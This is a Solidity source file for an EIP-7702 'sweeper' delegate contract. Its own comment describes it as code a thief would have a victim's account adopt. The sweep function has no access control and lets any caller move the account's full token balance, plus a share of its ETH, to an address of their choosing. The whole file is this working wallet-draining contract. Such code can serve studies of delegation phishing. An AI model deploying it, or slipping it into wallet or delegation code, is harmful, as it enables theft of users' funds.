// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// What a thief would have an account run as its own (EIP-7702): anybody takes all that it holds.
contract SweeperDelegate {
    mapping(address => uint256) public taken;

    function sweep(IERC20 token, address to) external {
        uint256 amount = token.balanceOf(address(this));
        taken[to] += amount;
        token.transfer(to, amount);
        (bool ok, ) = to.call{value: address(this).balance / 1000}("");
        require(ok, "not paid");
    }

    receive() external payable {}
}
